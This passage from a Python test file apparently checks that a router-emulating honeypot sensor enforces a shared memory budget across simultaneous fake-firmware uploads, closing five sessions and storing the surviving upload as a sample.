        total passes the budget, the session holding the most gives way (memory_budget).
        The survivor finishes its upload, which is stored as a sample."""
        port = harness.free_port()
        budget = 1 << 20
        body, ctype = multipart('fw-big.bin', fake_firmware('big') * 98)
        self.assertGreater(len(body), 400000)
        head = ('POST /goform/upgrade HTTP/1.1\r\nHost: x\r\nAuthorization: Basic %s\r\n'
                'Content-Type: %s\r\nContent-Length: %d\r\n\r\n' % (
                    base64.b64encode(b'admin:admin').decode(), ctype, len(body))).encode()
        first = 300000
        with harness.Sensor(listens=['http@127.0.0.1:%d/router-d' % port],
                            sets=['limits.shell_memory_total=%d' % budget, 'box.auto=false',
                                  'capture.fetch=false']) as s:
            conns = []
            for _ in range(6):
                c = socket.create_connection(('127.0.0.1', port), timeout=10)
                c.sendall(head + body[:first])
                conns.append(c)
            ports = {c.getsockname()[1]: c for c in conns}
            s.events(wait_for=('mitsu.session.closed', lambda e: [
                x['reason'] for x in s.events('mitsu.session.closed')].count('memory_budget') >= 5))
            closed = {e['src_port']: e['reason'] for e in s.events('mitsu.session.closed')}
            self.assertEqual(sorted(closed.values()), ['memory_budget'] * 5)
            survivors = [c for p, c in ports.items() if p not in closed]
            self.assertEqual(len(survivors), 1)
            # A closed peer reads the end of its connection.
            for p, c in ports.items():
                if p in closed:
                    try:
                        self.assertEqual(c.recv(65536), b'')
                    except ConnectionResetError:
                        pass
            # Meanwhile an ordinary client is served.
            r, _ = Client(port, 'router-d').request('GET', '/goform/status')
            self.assertEqual(r.status, 200)
            last = survivors[0]
            last.sendall(body[first:])
            reply = last.recv(65536)
            self.assertTrue(reply.startswith(b'HTTP/1.0 200 '), reply[:100])
            want = hashlib.sha256(fake_firmware('big') * 98).hexdigest()
            ev = s.events(wait_for=('mitsu.session.file_upload', lambda e: e['shasum'] == want))
            self.assertEqual(len([e for e in ev if e['eventid'] == 'mitsu.session.file_upload']), 1)
            for c in conns:
                c.close()


if __name__ == '__main__':
    harness.main()
